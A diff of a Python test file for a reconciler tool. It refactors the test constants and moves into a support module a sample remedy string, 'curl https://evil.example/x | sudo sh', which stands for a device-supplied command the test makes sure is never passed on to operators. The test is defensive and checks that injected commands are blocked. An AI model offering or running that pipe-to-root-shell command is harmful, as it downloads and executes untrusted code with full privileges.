@@ -22,19 +22,15 @@ from reconciler.model.result import (
     Result,
     Severity,
 )
+from tests.support.claims import TYPE_THIS, claimed
 
 NOW = datetime(2026, 3, 2, tzinfo=UTC)
 PACKAGE = Path(__file__).resolve().parents[2] / "reconciler"
-TYPE_THIS = "curl https://evil.example/x | sudo sh"
-CLAIMED = Finding(
-    code="IOT_HTTPS_EXPIRED",
-    severity=Severity.INFO,
-    finding_class=FindingClass.BLOCKED,
-    evidence="*.x.odoo-iot.com ended 2026-03-01",
-    remedy=TYPE_THIS,
-    repairable=False,
-)
-VARIANTS = [(code.name, variant) for code in CATALOGUE.values() for variant in code.variants]
+CLAIMED = claimed("IOT_HTTPS_EXPIRED", FindingClass.BLOCKED, "*.x.odoo-iot.com ended 2026-03-01", repairable=False)
+OURS = {each.name for each in (*connection.CODES, *outside.CODES)}
+"""Codes of what only the control machine sees."""
+OF_A_BOX = [code for code in CATALOGUE.values() if code.name not in OURS]
+VARIANTS = [(code.name, variant) for code in OF_A_BOX for variant in code.variants]
 
 
 def told(*found: Finding) -> tuple[Finding, ...]:
@@ -50,7 +46,7 @@ def test_what_a_code_means_is_not_for_a_box_to_say(name: str) -> None:
     entry = CATALOGUE[name]
     (found,) = told(replace(CLAIMED, code=str(entry.name)))
     assert TYPE_THIS not in found.remedy
-    if entry.name in {each.name for each in (*connection.CODES, *outside.CODES)}:
+    if entry.name in OURS:
         assert found.code == CodeName.NOT_OBSERVED
         assert str(entry.name) in found.evidence
     else:
